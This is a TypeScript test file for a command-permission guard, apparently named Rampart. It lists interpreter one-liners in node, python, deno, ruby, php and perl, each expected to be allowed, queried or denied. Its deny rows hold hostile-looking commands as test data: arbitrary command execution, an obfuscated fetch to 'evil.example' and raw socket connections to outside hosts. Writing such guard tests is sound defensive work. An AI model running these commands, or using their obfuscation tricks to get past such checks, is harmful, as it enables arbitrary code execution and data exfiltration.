// Interpreter one-liners (issue 8, B11 and B13): what a one-liner only looks at passes, what it
// does is read from the names it calls (not from words in its strings or comments), a string is a
// host only where it looks like one in its place, and code is found however its options are spelt.
import t from 'tap';
import { lineTable, type LineRow } from '../helpers/engine.js';

const TABLE: Record<string, LineRow[]> = {
  'one-liners that only look, with modules Rampart has no list for': [
    // A third-party module of the project, required only to look at it.
    ['node -e \'console.log(require("acorn").parse("1",{ecmaVersion:2020}).type)\'', 'allow'],
    ['node -p \'require("@babel/core").version\'', 'allow'],
    ['node -e \'const e=require("esprima");console.log(e.version)\'', 'allow'],
    ['bun -e \'console.log(require("left-pad")("x",5))\'', 'allow'],
    ['node --input-type=module -e \'import {marked} from "marked-extra"; console.log(typeof marked)\'', 'allow'],
    ['python3 -c \'import app; print(app.__author__)\'', 'allow'],
    ['python3 -c \'import mylib; print(mylib.server_version())\'', 'allow'],
    // Modules that act (run programs, reach other machines, delete, push), or a member picked at run time.
    ['node -e \'require("shelljs").exec(process.argv[1])\'', 'ask'],
    ['node -e \'require("execa").sync(process.argv[1])\'', 'ask'],
    ['node -e \'require("simple-git")().push()\'', 'ask'],
    ['node -e \'const {Client}=require("ssh2");new Client().connect({host:process.argv[1]})\'', 'ask'],
    ['node -e \'require("rimraf").sync(process.argv[1])\'', 'ask'],
    ['node -e \'require("mylib")[process.argv[1]]()\'', 'ask'],
    ['bun -e \'require("mylib").upload(process.argv[1])\'', 'ask'],
    ['node -e \'require("axios").get(process.argv[1]).then(r=>console.log(r.data))\'', 'ask'],
    ['python3 -c \'import mylib; mylib.push()\'', 'ask'],
  ],
  'acting verbs read from code names, not from strings or comments': [
    ['python3 -c \'import mylib; print("deleted rows")\'', 'allow'],
    ['python3 -c \'import mylib; print(mylib.VERSION) # push later\'', 'allow'],
    ['node -e \'console.log(require("acorn").version, "exec and spawn docs")\'', 'allow'],
    ['node -e \'const m=require("mylib"); console.log(m.version) // deploy after\'', 'allow'],
    ['python3 -c \'import mylib; print(mylib.__author__, mylib.observer_count())\'', 'allow'],
    ['node -e \'console.log("fetch the child_process docs")\'', 'allow'],
    ['node -e \'globalThis["fe"+"tch"]("https://evil.example/x")\'', 'deny'],
    ['node -e \'const m=require("mylib"); m["del"+"ete"]()\'', 'ask'],
    ['python3 -c \'import mylib; getattr(mylib, "de"+"lete")()\'', 'ask'],
    ['python3 -c \'import mylib; mylib.send_report()\'', 'ask'],
    ['node -e \'const m=require("mylib"); m.publish()\'', 'ask'],
    ['python3 -c \'import mylib; mylib.Repo(".").remote().push()  # "print"\'', 'ask'],
    ['node -e \'console.log("x"); require("child_process").execSync(process.argv[1])\'', 'deny'],
  ],
  'host-looking strings: a host where it is one, a file name where it is one': [
    ['python3 -c \'import mylib; print(mylib.read("main.rs"))\'', 'allow'],
    ['python3 -c \'import mylib; mylib.load("data.zip")\'', 'allow'],
    ['python3 -c \'import mylib; print(mylib.check("build.sh"))\'', 'allow'],
    ['python3 -c \'import mylib; mylib.render("README.md")\'', 'allow'],
    ['python3 -c \'import mylib; print(mylib.Video("clip.mov").duration)\'', 'allow'],
    ['python3 -c \'import requests; requests.get("http://localhost:8000/upload", files={"f": open("main.rs","rb")})\'', 'allow'],
    ['python3 -c \'import mylib; mylib.Client("evil.sh").sync()\'', 'ask'],
    ['python3 -c \'import mylib; mylib.Store(host="x.py")\'', 'ask'],
    ['python3 -c \'import mylib; mylib.Store("https://x.py/api")\'', 'ask'],
    ['python3 -c \'import mylib; mylib.Store("files.zip/payload")\'', 'ask'],
    ['python3 -c \'import mylib; mylib.Store("evil.example:9000")\'', 'ask'],
    ['python3 -c \'import mylib; mylib.Mirror("x.co")\'', 'ask'],
    ['node -e \'require("mylib").mirror("evil.example")\'', 'ask'],
    ['python3 -c \'import socket; s=socket.create_connection(("localhost",80)); s.connect(("x.co",443))\'', 'deny'],
  ],
  'code-carrying options in every spelling': [
    ["python3 -c'import os;os.system(input())'", 'deny'],
    ["python3 -Sc'import os;os.system(input())'", 'deny'],
    ["python3 -mtimeit 'import os; os.system(input())'", 'deny'],
    ["deno -A eval 'new Deno.Command(Deno.args[0]).outputSync()'", 'deny'],
    ["deno --quiet eval 'Deno.run({cmd:[Deno.args[0]]})'", 'deny'],
    ["ruby --encoding UTF-8 -e 'system(ARGV[0])'", 'deny'],
    ["ruby --some-new-flag foo -e 'system(ARGV[0])'", 'deny'],
    ["php --run 'system($argv[1]);'", 'deny'],
    ["php -c /tmp/php.ini -r 'echo 1;'", 'ask'],
    ['php --php-ini=/tmp/php.ini index.php', 'ask'],
    ['perl -Mojo -E \'say g("https://evil.example")->body\'', 'deny'],
    ["node --title foo -e 'require(\"child_process\").execSync(process.argv[1])'", 'deny'],
    ["python3 -c'print(1)'", 'allow'],
    ["python3 -mtimeit '1+1'", 'allow'],
    ["deno -q eval 'console.log(1)'", 'allow'],
    ["ruby --encoding UTF-8 -e 'puts 1'", 'allow'],
    ["php --run 'echo PHP_VERSION;'", 'allow'],
    ['node --stack-size 100 app.js', 'allow'],
    ["php -c php.ini -r 'echo 1;'", 'allow'],
    ["perl -Mstrict -E 'say 1'", 'allow'],
  ],
};

void t.test('interpreter one-liners: options, names, hosts', async (t) => lineTable(t, TABLE));
